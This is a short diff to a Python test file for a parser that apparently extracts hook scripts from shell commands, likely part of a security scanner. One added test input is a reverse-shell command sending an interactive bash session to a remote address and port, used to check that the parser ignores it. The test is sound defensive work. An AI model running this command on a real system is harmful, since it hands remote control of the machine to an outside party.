@@ -295,3 +295,9 @@ def test_scripts_are_found_after_wrappers_and_interpreters() -> None:
     assert scripts("pwsh -ExecutionPolicy Bypass $TMPDIR/x.ps1") == (
         HookScript("$TMPDIR/x.ps1", "temp"),
     )
+    # A reverse shell's redirection target is not a script (AIP164 reports the socket).
+    assert scripts("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1") == ()
+    assert scripts("sh 2>/dev/null ./scripts/fmt.sh") == ()
+    assert scripts("bash ./scripts/fmt.sh > /tmp/out.log") == (
+        HookScript("./scripts/fmt.sh", "project"),
+    )
